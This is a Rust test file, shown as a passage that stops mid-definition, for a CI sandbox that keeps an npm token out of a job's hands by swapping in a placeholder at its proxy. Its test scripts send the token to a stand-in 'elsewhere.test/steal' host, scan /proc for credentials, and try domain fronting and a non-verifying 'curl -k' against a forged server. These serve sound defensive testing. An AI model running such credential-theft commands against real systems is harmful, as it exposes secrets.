//! A token the job needs, which a postinstall or a prompt-injected agent
//! in the same job would send anywhere it can (Shai-Hulud stole npm
//! publish tokens exactly so). With `--env-pass` the job holds it; with
//! `--secret NAME@HOST` it holds a placeholder of the same shape, and
//! vetto's proxy puts the value in the job's HTTPS requests to HOST only.
//!
//! The stand-in registry is an HTTPS server on the host's loopback (a test
//! authority made here, which vetto is told to trust through
//! `SSL_CERT_FILE`, as a user with a private CA would), answering as
//! `registry.test` and `elsewhere.test`, both pinned there with
//! `--resolve`. It serves `/private` and an npm package, only to a request
//! that carries the token, and writes down every credential it is sent.

use std::io::{BufRead, BufReader};
use std::path::{Path, PathBuf};
use std::process::{Child, Command, Stdio};

use crate::util::{Out, Tier, World};
use crate::{at_every_tier, require};

/// The token (npm's shape): what must never be in the job's hands.
const TOKEN: &str = "npm_CANARYinjected0token0a1b2c3d4e5f6g7h8";

const SERVER: &str = r#"
import base64, hashlib, http.server, io, json, os, ssl, sys, tarfile
# The token from the environment: a command line is anyone's to read.
token = os.environ["REGISTRY_TOKEN"]
cert, key, seen = sys.argv[1:4]

def tarball():
    out = io.BytesIO()
    with tarfile.open(fileobj=out, mode="w:gz") as t:
        for name, body in [("package/package.json", b'{"name":"private-pkg","version":"1.0.0","main":"index.js"}'),
                           ("package/index.js", b'module.exports = "private-pkg-loaded";\n')]:
            info = tarfile.TarInfo(name); info.size = len(body); info.mtime = 0
            t.addfile(info, io.BytesIO(body))
    return out.getvalue()

TGZ = tarball()

def wheel():
    import zipfile
    files = {"private_pkg/__init__.py": b'VALUE = "private-wheel-loaded"\n',
             "private_pkg-1.0.0.dist-info/METADATA": b"Metadata-Version: 2.1\nName: private-pkg\nVersion: 1.0.0\n",
             "private_pkg-1.0.0.dist-info/WHEEL": b"Wheel-Version: 1.0\nGenerator: test\nRoot-Is-Purelib: true\nTag: py3-none-any\n"}
    record = ""
    for name, body in files.items():
        digest = base64.urlsafe_b64encode(hashlib.sha256(body).digest()).rstrip(b"=").decode()
        record += "%s,sha256=%s,%d\n" % (name, digest, len(body))
    record += "private_pkg-1.0.0.dist-info/RECORD,,\n"
    files["private_pkg-1.0.0.dist-info/RECORD"] = record.encode()
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w") as z:
        for name, body in files.items():
            z.writestr(name, body)
    return out.getvalue()

WHL = wheel()
WHL_NAME = "private_pkg-1.0.0-py3-none-any.whl"

class H(http.server.BaseHTTPRequestHandler):
    protocol_version = "HTTP/1.1"
    def authorized(self):
        auth = self.headers.get("Authorization") or ""
        with open(seen, "a") as f:
            f.write("%s %s %s\n" % (self.headers.get("Host"), self.path, auth))
        if auth == "Bearer " + token:
            return True
        if auth.startswith("Basic "):
            user_pass = base64.b64decode(auth[6:]).decode()
            return user_pass.split(":", 1)[-1] == token
        return False
    def answer(self, status, body, kind="text/plain"):
        self.send_response(status)
        self.send_header("Content-Type", kind)
        self.send_header("Content-Length", str(len(body)))
        self.end_headers()
        self.wfile.write(body)
    def do_GET(self):
        if not self.authorized():
            return self.answer(401, b"token required\n")
        host = self.headers.get("Host")
        if self.path == "/private":
            return self.answer(200, b"private-package-ok\n")
        if self.path == "/private-pkg":
            doc = {"name": "private-pkg", "dist-tags": {"latest": "1.0.0"}, "versions": {"1.0.0": {
                "name": "private-pkg", "version": "1.0.0", "dist": {
                    "tarball": "https://%s/private-pkg/-/private-pkg-1.0.0.tgz" % host,
                    "shasum": hashlib.sha1(TGZ).hexdigest(),
                    "integrity": "sha512-" + base64.b64encode(hashlib.sha512(TGZ).digest()).decode()}}}}
            return self.answer(200, json.dumps(doc).encode(), "application/json")
        if self.path == "/private-pkg/-/private-pkg-1.0.0.tgz":
            return self.answer(200, TGZ, "application/octet-stream")
        if self.path in ("/simple/private-pkg/", "/simple/private_pkg/"):
            link = '<a href="/files/%s#sha256=%s">%s</a>' % (
                WHL_NAME, hashlib.sha256(WHL).hexdigest(), WHL_NAME)
            return self.answer(200, ("<html><body>%s</body></html>" % link).encode(), "text/html")
        if self.path == "/files/" + WHL_NAME:
            return self.answer(200, WHL, "application/octet-stream")
        self.answer(404, b"not found\n")
    def log_message(self, *a):
        pass

s = http.server.ThreadingHTTPServer(("127.0.0.1", 0), H)
ctx = ssl.SSLContext(ssl.PROTOCOL_TLS_SERVER)
ctx.load_cert_chain(cert, key)
s.socket = ctx.wrap_socket(s.socket, server_side=True)
print(s.server_address[1], flush=True)
s.serve_forever()
"#;

/// The stand-in registry, stopped when dropped.
struct Registry {
    port: u16,
    /// The authority vetto trusts (its `SSL_CERT_FILE`).
    ca: PathBuf,
    /// `HOST PATH AUTHORIZATION` for every request.
    seen: PathBuf,
    child: Child,
}

/// An HTTP/2-only stand-in (node's `http2`: no HTTP/1.1 at all), to the
/// same token: it writes down `AUTHORITY METHOD PATH AUTHORIZATION` of
/// every stream, and answers with what it read of the body.
const H2_SERVER: &str = r#"
const http2 = require("http2"), fs = require("fs");
const [cert, key, seen] = process.argv.slice(2);
const token = process.env.REGISTRY_TOKEN;
const server = http2.createSecureServer({ cert: fs.readFileSync(cert), key: fs.readFileSync(key) });
server.on("stream", (stream, h) => {
  const auth = h["authorization"] || "";
  fs.appendFileSync(seen, `${h[":authority"]} ${h[":method"]} ${h[":path"]} ${auth}\n`);
  let bytes = 0;
  stream.on("data", (c) => { bytes += c.length; });
  stream.on("end", () => {
    const ok = auth === "Bearer " + token;
    stream.respond({ ":status": ok ? 200 : 401, "content-type": "text/plain" });
    stream.end(ok ? `h2-ok ${h[":method"]} ${h[":path"]} ${bytes}\n` : "token required\n");
  });
});
server.listen(0, "127.0.0.1", () => console.log(server.address().port));
"#;

impl Registry {
    fn start(w: &World) -> Registry {
        Registry::spawn(w, "python3", "server.py", SERVER)
    }

    fn start_h2(w: &World) -> Registry {
        Registry::spawn(w, "node", "server.js", H2_SERVER)
    }

    fn spawn(w: &World, interpreter: &str, name: &str, program: &str) -> Registry {
        use rcgen::{BasicConstraints, CertificateParams, CertifiedIssuer, IsCa, KeyPair};
        let dir = w.home.join("registry");
        let mut ca_params = CertificateParams::new(Vec::<String>::new()).unwrap();
        ca_params.is_ca = IsCa::Ca(BasicConstraints::Unconstrained);
        // A name of its own: with rcgen's default for both, OpenSSL takes
        // the leaf (same subject as its issuer) for self-signed.
        ca_params
            .distinguished_name
            .push(rcgen::DnType::CommonName, "vetto test authority");
        let ca = CertifiedIssuer::self_signed(ca_params, KeyPair::generate().unwrap()).unwrap();
        let key = KeyPair::generate().unwrap();
        let leaf = CertificateParams::new(vec!["registry.test".into(), "elsewhere.test".into()])
            .unwrap()
            .signed_by(&key, &ca)
            .unwrap();
        w.write(&dir.join("ca.pem"), &ca.pem());
        w.write(&dir.join("server.pem"), &leaf.pem());
        w.write(&dir.join("server.key"), &key.serialize_pem());
        w.write(&dir.join(name), program);
        w.write(&dir.join("seen"), "");
        let mut child = Command::new(interpreter)
            .arg(dir.join(name))
            .env("REGISTRY_TOKEN", TOKEN)
            .arg(dir.join("server.pem"))
            .arg(dir.join("server.key"))
            .arg(dir.join("seen"))
            .stdout(Stdio::piped())
            .spawn()
            .unwrap();
        let mut line = String::new();
        BufReader::new(child.stdout.take().unwrap())
            .read_line(&mut line)
            .unwrap();
        let port = line
            .trim()
            .parse()
            .unwrap_or_else(|_| panic!("no port: {line:?}"));
        Registry {
            port,
            ca: dir.join("ca.pem"),
            seen: dir.join("seen"),
            child,
        }
    }

    /// The credentials the server was sent for `host`.
    fn seen_by(&self, host: &str) -> Vec<String> {
        let prefix = format!("{host}:{} ", self.port);
        std::fs::read_to_string(&self.seen)
            .unwrap_or_default()
            .lines()
            .filter(|l| l.starts_with(&prefix))
            .map(str::to_string)
            .collect()
    }

    /// `vetto ci` at the world's tier with `options`, the token and the
    /// test authority in vetto's own environment.
    fn ci(&self, w: &World, options: &[String], script: &str) -> (Out, String) {
        self.ci_trusting(w, options, script, true)
    }

    /// [`Registry::ci`]; `trust`: whether vetto trusts the test authority
    /// (else the server is one no root of the host vouches for).
    fn ci_trusting(
        &self,
        w: &World,
        options: &[String],
        script: &str,
        trust: bool,
    ) -> (Out, String) {
        let project = w.project.to_str().unwrap();
        let mut args: Vec<String> = ["ci", "--tier", w.tier.name(), "--project", project]
            .map(String::from)
            .into();
        args.extend(w.tier.options().iter().map(|s| s.to_string()));
        for name in ["registry.test", "elsewhere.test"] {
            args.push(format!("--resolve={name}:127.0.0.1"));
        }
        args.extend(options.iter().cloned());
        args.extend(["--", "sh", "-c", script].map(String::from));
        let args: Vec<&str> = args.iter().map(String::as_str).collect();
        let mut run = w.vetto(&args).env("NPM_TOKEN", TOKEN);
        if trust {
            run = run.env("SSL_CERT_FILE", &self.ca);
        }
        let out = run.run();
        let log = std::fs::read_to_string(w.project.join("vetto-report/session.jsonl"))
            .unwrap_or_default();
        (out, log)
    }

    /// `script` (given the curl to run) outside the sandbox: curl trusts
    /// the test authority and pins the names; the token is in the
    /// environment, not on a command line (anyone may read those in
    /// /proc, and another test's job looks there).
    fn bare(&self, w: &World, script: impl Fn(&str) -> String) -> Out {
        let curl = format!(
            "curl --cacert {} --resolve registry.test:{}:127.0.0.1",
            self.ca.display(),
            self.port
        );
        w.bare(&["sh", "-c", &script(&curl)])
            .env("NPM_TOKEN", TOKEN)
            .run()
    }

    fn secret(&self) -> String {
        format!("--secret=NPM_TOKEN@registry.test:{}", self.port)
    }
}

impl Drop for Registry {
    fn drop(&mut self) {
        let _ = self.child.kill();
        let _ = self.child.wait();
    }
}

/// The token is nowhere vetto wrote: the session log and every report.
fn assert_not_in_reports(project: &Path) {
    for entry in std::fs::read_dir(project.join("vetto-report")).unwrap() {
        let path = entry.unwrap().path();
        let text = std::fs::read(&path).unwrap();
        assert!(
            !String::from_utf8_lossy(&text).contains(TOKEN),
            "the token is in {}",
            path.display()
        );
    }
}

/// Runs as an unprivileged user. Without the feature, a job that needs the
/// token must be handed it (`--env-pass`), and then every program in it
/// holds it: the script prints it. With `--secret`, the job's environment,
/// the environment and command line of every process it can see in
/// `/proc` (vetto's own included, which holds the value), vetto's output, the session log and the reports hold a
/// placeholder only; its request to `registry.test` is answered (the proxy
/// put the value in), while the same placeholder sent to `elsewhere.test`
/// (allowed, but not the secret's host) arrives as the placeholder and
/// authenticates nothing. The session log records the request that used
/// the secret: host, method, path, status, the secret's name.
fn a_token_the_job_uses_is_never_in_its_hands(tier: Tier) {
    require!(tier.feature());
    let w = World::at(tier);
    let reg = Registry::start(&w);
    let port = reg.port;
    let script = format!(
        "echo \"job-holds=$NPM_TOKEN\"; tr '\\0' '\\n' < /proc/self/environ | grep NPM_TOKEN; \
         for f in /proc/[0-9]*/environ /proc/[0-9]*/cmdline; do tr '\\0' '\\n' < $f 2>/dev/null | grep 0token0a1b && echo \"FOUND $f $(tr '\\0' ' ' < ${{f%/*}}/cmdline | cut -c1-60) $(stat -c %u ${{f%/*}})\"; done; \
         curl -sS --cacert \"$SSL_CERT_FILE\" https://registry.test:{port}/private \
              -H \"Authorization: Bearer $NPM_TOKEN\"; \
         curl -sS --cacert \"$SSL_CERT_FILE\" https://elsewhere.test:{port}/steal \
              -H \"Authorization: Bearer $NPM_TOKEN\"; \
         echo job-finished"
    );
    let elsewhere = format!("--allow-domain=elsewhere.test:{port}");

    // Without --secret: the job that needs the token holds it.
    let (out, _) = reg.ci(
        &w,
        &[
            "--env-pass=NPM_TOKEN".into(),
            format!("--allow-domain=registry.test:{port}"),
            elsewhere.clone(),
            format!("--allow-read={}", reg.ca.display()),
        ],
        &script,
    );
    out.assert_stdout_contains(&format!("job-holds={TOKEN}"));
    assert!(
        reg.seen_by("elsewhere.test")
            .iter()
            .any(|l| l.contains(TOKEN)),
        "control: the token was not sent elsewhere without --secret\n{}",
        out.dump()
    );
    std::fs::write(&reg.seen, "").unwrap();

    let (out, log) = reg.ci(&w, &[reg.secret(), elsewhere], &script);
    out.assert_stdout_contains("private-package-ok")
        .assert_stdout_contains("token required")
        .assert_stdout_contains("job-finished")
        .assert_stdout_contains("job-holds=npm_")
        .assert_no_leak(TOKEN)
        .assert_stderr_contains("secrets: NPM_TOKEN (to registry.test:");
    assert_eq!(out.code(), 0, "{}", out.dump());
    let to_registry = reg.seen_by("registry.test");
    assert!(
        to_registry.len() == 1 && to_registry[0].ends_with(&format!("Bearer {TOKEN}")),
        "the registry got the value: {to_registry:?}"
    );
    let elsewhere_got = reg.seen_by("elsewhere.test");
    assert!(
        elsewhere_got.len() == 1
            && elsewhere_got[0].contains("Bearer npm_")
            && !elsewhere_got[0].contains(TOKEN),
        "elsewhere got the placeholder only: {elsewhere_got:?}"
    );
    assert!(
        log.lines().any(|l| l.contains("\"type\":\"connection\"")
            && l.contains("\"host\":\"registry.test\"")
            && l.contains(
                "\"requests\":[{\"method\":\"GET\",\"path\":\"/private\",\"status\":200,\"secrets\":[\"NPM_TOKEN\"]}]"
            )),
        "the use is recorded\n{log}"
    );
    let summary = std::fs::read_to_string(w.project.join("vetto-report/summary.md")).unwrap();
    assert!(
        summary.contains("**Secrets used: `NPM_TOKEN` (1 request(s))**")
            && summary.contains(&format!(
                "`GET https://registry.test:{port}/private` | 200 | 1 | `/usr/bin/curl`"
            )),
        "the summary says who used the secret\n{summary}"
    );
    assert_not_in_reports(&w.project);
}
at_every_tier!(a_token_the_job_uses_is_never_in_its_hands);

/// Runs as an unprivileged user: `npm install` of a package only a private
/// registry serves, to a token, with the user's `.npmrc` naming the
/// registry and the token as actions/setup-node writes them
/// (`_authToken=${NPM_TOKEN}`).
/// With `--secret` it installs, and the job never held the token; without
/// it npm fails, saying the registry wants authentication (E401).
fn npm_installs_from_a_private_registry_with_a_secret_it_never_holds(tier: Tier) {
    require!(tier.feature());
    crate::require_tool!("npm", "npm");
    let w = World::at(tier);
    let reg = Registry::start(&w);
    let port = reg.port;
    w.write(
        &w.project.join("package.json"),
        "{\"name\":\"app\",\"version\":\"1.0.0\",\"dependencies\":{\"private-pkg\":\"1.0.0\"}}\n",
    );
    w.write(
        &w.home.join(".npmrc"),
        &format!(
            "registry=https://registry.test:{port}/\n//registry.test:{port}/:_authToken=${{NPM_TOKEN}}\n\
             update-notifier=false\naudit=false\nfund=false\n"
        ),
    );
    let install = "npm install --no-audit --no-fund 2>&1; \
                   node -e 'console.log(require(\"private-pkg\"))'";
    let (out, log) = reg.ci(&w, &["--preset=npm".into(), reg.secret()], install);
    out.assert_stdout_contains("private-pkg-loaded")
        .assert_no_leak(TOKEN);
    assert_eq!(out.code(), 0, "{}", out.dump());
    let violations = crate::util::violation_lines(&log);
    assert!(violations.is_empty(), "{violations:?}\n{}", out.dump());
    assert_not_in_reports(&w.project);

    // Nothing installed or cached is left to install from.
    std::fs::remove_dir_all(w.project.join("node_modules")).unwrap();
    std::fs::remove_dir_all(w.vetto_cache("npm")).unwrap();
    std::fs::write(&reg.seen, "").unwrap();
    // The job trusts the test authority itself here (no session authority
    // stands in front of the registry), so what it meets is the registry's
    // refusal, at once (no retries).
    let ca = reg.ca.display().to_string();
    let (out, _) = reg.ci(
        &w,
        &[
            "--preset=npm".into(),
            format!("--allow-domain=registry.test:{port}"),
            format!("--allow-read={ca}"),
        ],
        &format!("npm install --no-audit --no-fund --fetch-retries=0 --cafile={ca} 2>&1"),
    );
    out.assert_stdout_contains("E401").assert_no_leak(TOKEN);
    assert_ne!(out.code(), 0, "{}", out.dump());
}
at_every_tier!(npm_installs_from_a_private_registry_with_a_secret_it_never_holds);

/// Runs as an unprivileged user. A server behind a shared front end (a
/// CDN) routes by the `Host` header, not by the TLS name: a job that opens
/// TLS to the secret's host and names another in `Host` (domain fronting)
/// would have the proxy put the value into a request another origin
/// receives. The proxy answers 421 instead, the server sees no request at
/// all, and the refusal is a `net-egress-blocked` violation with the
/// process (`request-refused`).
fn a_secret_is_never_put_in_a_request_fronted_to_another_host(tier: Tier) {
    require!(tier.feature());
    let w = World::at(tier);
    let reg = Registry::start(&w);
    let port = reg.port;
    let script = format!(
        "curl -sS -i https://registry.test:{port}/private -H \"Host: elsewhere.test:{port}\" \
              -H \"Authorization: Bearer $NPM_TOKEN\"; echo job-finished"
    );
    let (out, log) = reg.ci(&w, &[reg.secret()], &script);
    out.assert_stdout_contains("421 Misdirected Request")
        .assert_stdout_contains("X-Vetto-Reason: the request names elsewhere.test")
        .assert_stdout_contains("job-finished")
        .assert_no_leak(TOKEN);
    assert_eq!(out.code(), 3, "{}", out.dump());
    let seen = std::fs::read_to_string(&reg.seen).unwrap();
    assert!(seen.is_empty(), "the server got a request: {seen}");
    assert!(
        log.lines().any(|l| l.contains("\"type\":\"violation\"")
            && l.contains("\"net-egress-blocked\"")
            && l.contains("/usr/bin/curl")),
        "the refusal is recorded with the process\n{log}"
    );
    assert_not_in_reports(&w.project);
}
at_every_tier!(a_secret_is_never_put_in_a_request_fronted_to_another_host);

/// Runs as an unprivileged user. An allowed host is an exfiltration
/// channel as a whole (a gist, an issue comment, a publish): with `--rule
/// "GET registry.test:PORT/private"` the proxy reads every request to that
/// host and lets only that one through. A POST, another path, and a path
/// that walks out of the allowed one with dot segments are answered 403
/// with the reason, never reach the server, and are recorded with the
/// process. Bare, the server takes them all.
fn requests_no_rule_allows_never_reach_an_allowed_host(tier: Tier) {
    require!(tier.feature());
    let w = World::at(tier);
    let reg = Registry::start(&w);
    let port = reg.port;
    let tries = |curl: &str| {
        format!(
            "for req in 'GET /private' 'POST /private' 'GET /upload' 'GET /private/../upload'; do \
               set -- $req; {curl} -sS -o /dev/null -w \"$1 $2 %{{http_code}}\\n\" --path-as-is -X $1 \
               https://registry.test:{port}$2 -H \"Authorization: Bearer $NPM_TOKEN\"; \
             done; echo job-finished"
        )
    };
    reg.bare(&w, tries)
        .assert_stdout_contains("POST /private 501")
        .assert_stdout_contains("GET /upload 404");
    // The server answers POST itself (501: it has no handler, so it
    // writes nothing down) and writes down the three GETs.
    assert_eq!(
        reg.seen_by("registry.test").len(),
        3,
        "control: bare, every request reaches the server"
    );
    std::fs::write(&reg.seen, "").unwrap();

    let rule = format!("--rule=GET registry.test:{port}/private");
    let (out, log) = reg.ci(&w, &[rule, reg.secret()], &tries("curl"));
    out.assert_stdout_contains("GET /private 200")
        .assert_stdout_contains("POST /private 403")
        .assert_stdout_contains("GET /upload 403")
        .assert_stdout_contains("GET /private/../upload 403")
        .assert_stdout_contains("job-finished")
        .assert_stderr_contains("request rules: GET registry.test:")
        .assert_no_leak(TOKEN);
    assert_eq!(out.code(), 3, "{}", out.dump());
    let seen = reg.seen_by("registry.test");
    assert!(
        seen.len() == 1 && seen[0].contains(" /private "),
        "only the allowed request reached the server: {seen:?}"
    );
    let refused: Vec<_> = log
        .lines()
        .filter(|l| {
            l.contains("\"type\":\"violation\"")
                && l.contains("\"net-egress-blocked\"")
                && l.contains("/usr/bin/curl")
        })
        .collect();
    assert!(!refused.is_empty(), "the refusals are recorded\n{log}");
}
at_every_tier!(requests_no_rule_allows_never_reach_an_allowed_host);

/// Runs as an unprivileged user: a server answering for the secret's host
/// with a certificate no root of the host vouches for (a man in the middle,
/// a hijacked name). A client that does not check (`curl -k`) hands it the
/// token. Under `--secret` vetto checks the real server before it puts
/// anything in: the job's request is answered 502 naming the failed check,
/// and the server is sent nothing.
fn a_forged_server_for_the_secrets_host_is_sent_nothing(tier: Tier) {
    require!(tier.feature());
    let w = World::at(tier);
    let reg = Registry::start(&w);
    let port = reg.port;
    let script = |curl: &str| {
        format!(
            "{curl} -sS -o /dev/null -w 'status %{{http_code}}\\n' https://registry.test:{port}/private \
               -H \"Authorization: Bearer $NPM_TOKEN\"; echo job-finished"
        )
    };
    reg.bare(&w, |_| {
        script(&format!("curl -k --resolve registry.test:{port}:127.0.0.1"))
    })
    .assert_stdout_contains("status 200");
    assert!(
        reg.seen_by("registry.test")
            .iter()
            .any(|l| l.contains(TOKEN)),
        "control: an unchecking client hands the forged server the token"
    );
    std::fs::write(&reg.seen, "").unwrap();

    let (out, log) = reg.ci_trusting(&w, &[reg.secret()], &script("curl"), false);
    out.assert_stdout_contains("status 502")
        .assert_stdout_contains("job-finished")
        .assert_no_leak(TOKEN);
    assert!(
        reg.seen_by("registry.test").is_empty(),
        "the forged server was sent a request: {:?}",
        reg.seen_by("registry.test")
    );
    assert!(
        log.lines()
            .any(|l| l.contains("\"type\":\"connection\"") && l.contains("TLS with registry.test")),
        "the failed check is in the connection's record\n{log}"
    );
    assert_not_in_reports(&w.project);
}
at_every_tier!(a_forged_server_for_the_secrets_host_is_sent_nothing);

/// Runs as an unprivileged user, against a server that speaks HTTP/2 only
/// (gRPC services and some APIs do): the proxy offers the job HTTP/2 since
/// the server chose it, and reads every stream. Two GETs multiplexed on
/// one connection get the value put in; a PUT streams 4 MiB through
/// (flow control, nothing buffered whole); a POST no rule allows is
/// answered 403 and never reaches the server, and is recorded. Bare, the
/// server takes the POST too.
fn an_http2_server_gets_the_secret_and_every_stream_is_checked(tier: Tier) {
    require!(tier.feature());
    crate::require_tool!("node", "npm");
    let w = World::at(tier);
    let reg = Registry::start_h2(&w);
    let port = reg.port;
    let tries = |curl: &str| {
        format!(
            "head -c 4194304 /dev/zero > big; \
             {curl} --http2 -sS -Z -w ' %{{http_version}}\n' https://registry.test:{port}/private https://registry.test:{port}/private \
               -H \"Authorization: Bearer $NPM_TOKEN\"; \
             {curl} --http2 -sS -w ' %{{http_version}}\n' -X PUT --data-binary @big https://registry.test:{port}/upload \
               -H \"Authorization: Bearer $NPM_TOKEN\"; \
             {curl} --http2 -sS -o /dev/null -w 'POST %{{http_code}} %{{http_version}}\n' -d x https://registry.test:{port}/private \
               -H \"Authorization: Bearer $NPM_TOKEN\"; \
             echo job-finished"
        )
    };
    reg.bare(&w, tries)
        .assert_stdout_contains("h2-ok GET /private 0\n 2")
        .assert_stdout_contains("h2-ok PUT /upload 4194304")
        .assert_stdout_contains("POST 200 2");
    assert!(
        reg.seen_by("registry.test")
            .iter()
            .any(|l| l.contains(" POST /private ")),
        "control: bare, the POST reaches the server"
    );
    std::fs::write(&reg.seen, "").unwrap();

    let rules = [
        format!("--rule=GET registry.test:{port}/private"),
        format!("--rule=PUT registry.test:{port}/upload"),
        reg.secret(),
    ];
    let (out, log) = reg.ci(&w, &rules, &tries("curl"));
    out.assert_stdout_contains("h2-ok GET /private 0\n 2")
        .assert_stdout_contains("h2-ok PUT /upload 4194304\n 2")
        .assert_stdout_contains("POST 403 2")
        .assert_stdout_contains("job-finished")
        .assert_no_leak(TOKEN);
    assert_eq!(out.code(), 3, "{}", out.dump());
    let seen = reg.seen_by("registry.test");
    assert_eq!(
        seen.iter().filter(|l| l.contains(" GET /private ")).count(),
        2,
        "{seen:?}"
    );
    assert!(
        seen.iter()
            .all(|l| l.ends_with(&format!("Bearer {TOKEN}")) && !l.contains(" POST ")),
        "every stream that reached the server carried the value, and no POST did: {seen:?}"
    );
    assert!(
        log.lines().any(|l| l.contains("\"type\":\"violation\"")
            && l.contains("\"net-egress-blocked\"")
            && l.contains("/usr/bin/curl")),
        "the refused stream is recorded\n{log}"
    );
    assert!(
        log.lines().any(|l| l.contains(
            "\"method\":\"PUT\",\"path\":\"/upload\",\"status\":200,\"secrets\":[\"NPM_TOKEN\"]"
        )),
        "the use is recorded\n{log}"
    );
    assert_not_in_reports(&w.project);
}
at_every_tier!(an_http2_server_gets_the_secret_and_every_stream_is_checked);

/// Runs as an unprivileged user: a script reads the token from its
/// environment and sends it, in the clear, to a host of its own (allowed
/// for other reasons). What leaves is the placeholder, which authenticates
/// nothing; and since vetto can read that request, the attempt is a
/// `secret-sent-elsewhere` violation with the process, failing the step.
fn a_placeholder_sent_to_another_host_is_recorded(tier: Tier) {
    require!(tier.feature());
    let w = World::at(tier);
    let reg = Registry::start(&w);
    let port = reg.port;
    let script = format!(
        "curl -sS -m 10 http://elsewhere.test:{port}/steal -H \"Authorization: Bearer $NPM_TOKEN\"; \
         echo job-finished"
    );
    let elsewhere = format!("--allow-domain=elsewhere.test:{port}");
    let (out, log) = reg.ci(&w, &[reg.secret(), elsewhere], &script);
    out.assert_stdout_contains("job-finished")
        .assert_no_leak(TOKEN);
    assert_eq!(out.code(), 3, "{}", out.dump());
    assert!(
        log.lines().any(|l| l.contains("\"type\":\"violation\"")
            && l.contains("\"secret-sent-elsewhere\"")
            && l.contains("\"host\":\"elsewhere.test\"")
            && l.contains("/usr/bin/curl")
            && l.contains("NPM_TOKEN's placeholder")),
        "the attempt is recorded with the process\n{log}"
    );
    assert_not_in_reports(&w.project);
}
at_every_tier!(a_placeholder_sent_to_another_host_is_recorded);

/// Runs as an unprivileged user: `pip install` of a package only a private
/// index serves, with the token in the index URL's user part as pip users
/// write it (`https://__token__:$TOKEN@host/simple/`): pip sends it as a
/// Basic credential, which the proxy decodes, swaps and encodes again.
/// With `--secret` it installs and the job never held the token; without
/// it the index answers 401 and pip finds no version of the package.
fn pip_installs_from_a_private_index_with_a_secret_it_never_holds(tier: Tier) {
    require!(tier.feature());
    if crate::util::skip::tool_missing("pip").is_some()
        && std::process::Command::new("python3")
            .args(["-m", "pip", "--version"])
            .output()
            .map_or(true, |o| !o.status.success())
    {
        assert!(!crate::util::required_by_name("pip"), "pip is required");
        crate::util::skip::say(&crate::util::test_name(), "pip is not installed");
        return;
    }
    let w = World::at(tier);
    let reg = Registry::start(&w);
    let port = reg.port;
    let install = format!(
        "python3 -m pip install --no-input --no-cache-dir --disable-pip-version-check \
           --index-url \"https://__token__:$NPM_TOKEN@registry.test:{port}/simple/\" \
           --target pylib private-pkg 2>&1; \
         python3 -c 'import sys; sys.path.insert(0, \"pylib\"); import private_pkg; print(private_pkg.VALUE)'"
    );
    let (out, _) = reg.ci(&w, &[reg.secret()], &install);
    out.assert_stdout_contains("private-wheel-loaded")
        .assert_no_leak(TOKEN);
    assert_eq!(out.code(), 0, "{}", out.dump());
    let seen = reg.seen_by("registry.test");
    assert!(
        !seen.is_empty() && seen.iter().all(|l| l.contains("Basic ")),
        "pip sent a Basic credential: {seen:?}"
    );
    assert_not_in_reports(&w.project);

    std::fs::remove_dir_all(w.project.join("pylib")).unwrap();
    let (out, _) = reg.ci(
        &w,
        &[
            format!("--allow-domain=registry.test:{port}"),
            format!("--allow-read={}", reg.ca.display()),
        ],
        &install.replace(
            "python3 -m pip install",
            &format!("PIP_CERT={} python3 -m pip install", reg.ca.display()),
        ),
    );
    // The index refused pip (401 to a request without the token), so pip
    // found no version of the package.
    out.assert_stdout_contains("No matching distribution found for private-pkg")
        .assert_stdout_lacks("private-wheel-loaded")
        .assert_no_leak(TOKEN);
    assert!(
        reg.seen_by("registry.test")
            .iter()
            .all(|l| !l.contains(TOKEN)),
        "the index got no token"
    );
}
at_every_tier!(pip_installs_from_a_private_index_with_a_secret_it_never_holds);

const JAVA_GET: &str = r#"import java.net.URI;
import java.net.http.*;
public class Get {
    public static void main(String[] a) throws Exception {
        var c = HttpClient.newBuilder().version(HttpClient.Version.HTTP_1_1).build();
        var r = c.send(HttpRequest.newBuilder(URI.create(a[0]))
            .header("Authorization", "Bearer " + System.getenv("NPM_TOKEN")).build(),
            HttpResponse.BodyHandlers.ofString());
        System.out.println("java-got " + r.statusCode() + " " + r.body().trim());
    }
}
"#;

/// Runs as an unprivileged user, under `--preset maven`: a JVM reads none
/// of the variables that name the trust bundle, only its own trust store.
/// vetto hands it one (the JDK's roots and the session's authority, through
/// `JAVA_TOOL_OPTIONS`), so a Java client's request to the secret's host
/// is answered with the value put in, and the JVM never held it.
fn a_jvm_uses_a_secret_through_its_own_trust_store(tier: Tier) {
    require!(tier.feature());
    crate::require_tool!("keytool", "java");
    let w = World::at(tier);
    let reg = Registry::start(&w);
    let port = reg.port;
    w.write(&w.project.join("Get.java"), JAVA_GET);
    let (out, _) = reg.ci(
        &w,
        &["--preset=maven".into(), reg.secret()],
        &format!("java Get.java https://registry.test:{port}/private"),
    );
    out.assert_stdout_contains("java-got 200 private-package-ok")
        .assert_no_leak(TOKEN);
    assert_eq!(out.code(), 0, "{}", out.dump());
    assert_not_in_reports(&w.project);
}
at_every_tier!(a_jvm_uses_a_secret_through_its_own_trust_store);

/// An ordinary server on the secret's host that hands back what it was
/// sent, as common servers do: a directory without its slash redirected
/// with the query kept (Python's `http.server`, nginx, Apache), CORS
/// echoing `Origin`, a session cookie made of a header, and — to show the
/// proxy reads every head — the credential itself in a header, a base64
/// cookie, a `103 Early Hints` link and a chunked body's trailer. It
/// writes down `HOST PATH AUTHORIZATION` of every request.
const REFLECTOR: &str = r#"
import base64, http.server, ssl, sys
cert, key, seen = sys.argv[1:4]
class H(http.server.BaseHTTPRequestHandler):
    protocol_version = "HTTP/1.1"
    def do_GET(self):
        auth = self.headers.get("Authorization") or ""
        with open(seen, "a") as f:
            f.write("%s %s %s\n" % (self.headers.get("Host"), self.path, auth))
        cred = auth.split(" ", 1)[-1]
        path, _, query = self.path.partition("?")
        out = "HTTP/1.1 103 Early Hints\r\nLink: </hint?k=%s>; rel=preload\r\n\r\n" % cred
        out += "HTTP/1.1 301 Moved Permanently\r\nLocation: %s/?%s\r\n" % (path, query)
        out += "Access-Control-Allow-Origin: %s\r\n" % self.headers.get("Origin", "")
        out += "Set-Cookie: session=%s\r\n" % self.headers.get("X-Session", "")
        out += "Set-Cookie: b64=%s\r\n" % base64.b64encode(("user:" + cred).encode()).decode()
        out += "X-Echo-Auth: %s\r\n" % auth
        out += "Transfer-Encoding: chunked\r\nTrailer: X-Trailer-Auth\r\n\r\n"
        out += "5\r\nmoved\r\n0\r\nX-Trailer-Auth: %s\r\n\r\n" % auth
        self.wfile.write(out.encode())
    def log_message(self, *a):
        pass
s = http.server.ThreadingHTTPServer(("127.0.0.1", 0), H)
